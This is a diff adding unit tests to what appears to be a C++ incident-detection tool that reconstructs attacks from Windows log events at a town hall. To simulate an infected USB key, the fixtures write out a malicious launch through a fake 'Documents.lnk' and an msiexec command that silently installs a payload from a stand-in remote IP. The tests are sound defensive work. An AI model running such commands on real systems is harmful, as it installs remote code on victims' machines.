@@ -133,6 +133,68 @@ TEST(Attack, ADocumentThatStartsAShellIsTheWayInHoweverLoudTheEnd) {
   EXPECT_EQ(document->account, "m.durand");
 }
 
+/// What a provider does with an inventory: the same program as a service on one workstation after the other.
+void add_rollout(BookForTests& town, const std::string& day) {
+  int number = 0;
+  for (const char* host : {"PC1.mairie.local", "PC2.mairie.local", "PC3.mairie.local"}) {
+    const std::string id = "0xe" + std::to_string(++number), minute = day + "T08:0" + std::to_string(number);
+    town.fact("authentication.logged-in", minute + ":00Z", host, logon("numeria", "3", "10.0.0.5", id));
+    town.fact("configuration.service-installed", minute + ":01Z", host,
+              {{"service.name", "Inventaire"},
+               {"process.executable", "C:\\Windows\\Temp\\Inventaire.exe /S"},
+               {"winlog.logon.id", id},
+               {"user.name", "numeria"}});
+  }
+}
+
+void add_infected_key(BookForTests& town, const std::string& moment) {
+  town.fact("authentication.logged-in", "2026-11-09T07:00:00Z", "PC1.mairie.local", logon("a.durand", "2", "", "0xaa"));
+  town.fact("host.device-connected", "2026-11-09T07:20:00Z", "PC1.mairie.local", {{"winlog.device.id", "USBSTOR\\DISK"}});
+  town.fact("process.start", moment, "PC1.mairie.local",
+            run(kCmd, "cmd.exe /c start explorer \"Documents.lnk\" & \"E:\\_\\q7xk.exe\"", "C:\\Windows\\explorer.exe", "0xaa",
+                "a.durand"));
+  town.fact("process.start", moment, "PC1.mairie.local",
+            run("C:\\Windows\\System32\\msiexec.exe", "msiexec.exe /q /i http://203.0.113.150:8080/x", "E:\\_\\q7xk.exe",
+                "0xaa", "a.durand"));
+}
+
+TEST(Attack, WhatAProviderRolledOutTheDayBeforeIsNotOfTheAttack) {
+  BookForTests town;
+  add_machines(town);
+  add_rollout(town, "2026-11-08");
+  add_infected_key(town, "2026-11-09T10:00:00Z");
+  const Scene& scene = town.scene();
+  ASSERT_EQ(scene.attack.sureness, Sureness::sure);
+  EXPECT_TRUE(scene.attack.moves.empty());
+  EXPECT_FALSE(hit(scene, "TSE"));
+  EXPECT_FALSE(hit(scene, "PC2"));
+  EXPECT_TRUE(
+      std::ranges::none_of(scene.attack.clues, [](const Clue* clue) { return clue->kind == "service_from_odd_folder"; }));
+  EXPECT_FALSE(scene.attack.accounts.contains("numeria"));
+}
+
+TEST(Attack, WhatIsRolledOutFromAMachineOfTheAttackIs) {
+  BookForTests town;
+  add_machines(town);
+  add_infected_key(town, "2026-11-09T07:30:00Z");
+  add_rollout(town, "2026-11-09");
+  const Scene& scene = town.scene();
+  EXPECT_TRUE(hit(scene, "TSE"));
+  EXPECT_TRUE(hit(scene, "PC3"));
+}
+
+TEST(Attack, TheSameFileFoundByAScannerMakesAnotherMachineSuspectedOnly) {
+  BookForTests town;
+  add_machines(town);
+  add_infected_key(town, "2026-11-09T10:00:00Z");
+  town.fact("authentication.logged-in", "2026-11-09T11:00:00Z", "PC4.mairie.local", logon("k.petit", "2", "", "0xdd"));
+  town.fact("malware.malware-detected", "2026-11-09T12:00:00Z", "PC4.mairie.local",
+            {{"threat.software.name", "Worm:Win32/Any"}, {"file.path", "file:_F:\\_\\q7xk.exe"}, {"user.name", "k.petit"}});
+  const Scene& scene = town.scene();
+  ASSERT_TRUE(hit(scene, "PC4"));
+  EXPECT_FALSE(hit(scene, "PC4")->is_compromised());
+}
+
 TEST(Attack, AdministratorsWorkOfAMonthMakesNone) {
   BookForTests town;
   add_machines(town);
